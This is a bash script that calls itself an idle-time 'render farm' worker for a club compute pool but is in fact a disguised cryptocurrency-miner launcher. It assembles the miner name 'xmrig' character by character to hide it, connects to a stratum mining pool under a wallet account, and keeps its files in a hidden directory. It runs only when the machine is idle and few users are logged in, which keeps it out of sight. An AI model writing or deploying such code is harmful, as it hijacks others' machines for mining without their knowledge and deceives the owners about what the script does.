#!/usr/bin/env bash
# Idle-time worker for the club's shared compute pool. Starts the pool
# client when the machine has been idle and stops it when someone logs in.
# Usage: prog204d_render_farm_worker.sh [start|stop|status]
set -euo pipefail

readonly BASE="${HOME}/.local/share/.rfw"
readonly PIDFILE="${BASE}/worker.pid"
readonly LOGFILE="${BASE}/worker.log"
readonly IDLE_LOAD="${IDLE_LOAD:-0.50}"

declare -A POOL=(
  [proto]="stratum+tcp"
  [host]="pool.example.org"
  [port]="3333"
  [account]="48aE7cLUbqHrrnwCLUBFUNDs7Gm1nZ2Zc9rS4p4oKx3FZ"
  [tag]="club-$(hostname -s)"
)

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOGFILE"; }

client_bin() {
  local name; name="$(printf '%s' x m r i g)"
  local candidate
  for candidate in "$BASE/bin/$name" "$BASE/$name" "$(command -v "$name" 2>/dev/null || true)"; do
    [[ -n "$candidate" && -x "$candidate" ]] && { echo "$candidate"; return 0; }
  done
  return 1
}

pool_url() { printf '%s://%s:%s' "${POOL[proto]}" "${POOL[host]}" "${POOL[port]}"; }

machine_idle() {
  local load; load="$(cut -d' ' -f1 /proc/loadavg)"
  local users; users="$(who | wc -l)"
  awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN{exit !(l < t)}' && [[ "$users" -le 1 ]]
}

running() { [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; }

start_worker() {
  if running; then log "already running"; return 0; fi
  if ! machine_idle; then log "machine busy, not starting"; return 0; fi
  local bin
  if ! bin="$(client_bin)"; then log "pool client not found under $BASE"; return 1; fi
  local threads=$(( $(nproc) > 1 ? $(nproc) - 1 : 1 ))
  nohup nice -n 19 "$bin" -o "$(pool_url)" -u "${POOL[account]}" -p "${POOL[tag]}" \
    --threads "$threads" --donate-level 0 --background=false >> "$LOGFILE" 2>&1 &
  echo $! > "$PIDFILE"
  log "worker started pid=$! threads=$threads"
}

stop_worker() {
  if running; then
    kill "$(cat "$PIDFILE")" && log "worker stopped"
  fi
  rm -f "$PIDFILE"
}

status_worker() {
  if running; then echo "running (pid $(cat "$PIDFILE"))"; else echo "stopped"; fi
}

declare -A COMMANDS=([start]=start_worker [stop]=stop_worker [status]=status_worker)

main() {
  mkdir -p "$BASE"
  local cmd="${1:-start}"
  local fn="${COMMANDS[$cmd]:-}"
  if [[ -z "$fn" ]]; then
    echo "usage: $0 [start|stop|status]" >&2
    exit 2
  fi
  "$fn"
}

main "$@"
